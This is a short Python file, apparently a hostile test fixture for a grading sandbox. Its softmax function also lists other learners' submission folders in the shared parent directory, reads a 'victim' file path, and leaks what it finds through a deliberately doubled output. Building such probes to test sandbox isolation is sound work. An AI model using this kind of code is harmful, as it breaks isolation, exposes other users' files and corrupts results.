# Hostile: look for other learners' submissions in the sandboxes' shared parent folder
# (a cohort worker grades several at once) and report what it finds through a wrong answer.
import os

import numpy as np

PARAMS = {}  # filled in by the test


def softmax(x, axis=-1):
    here = os.path.dirname(os.getcwd())          # our own sandbox folder
    parent = os.path.dirname(here)
    seen = []
    try:
        seen = [name for name in os.listdir(parent) if os.path.join(parent, name) != here]
    except OSError:
        pass
    try:
        with open(PARAMS["victim"]) as f:
            seen.append(f.read())
    except OSError:
        pass
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    out = e / e.sum(axis=axis, keepdims=True)
    if seen:
        print("SAW", seen)
        return out * 2.0
    return out
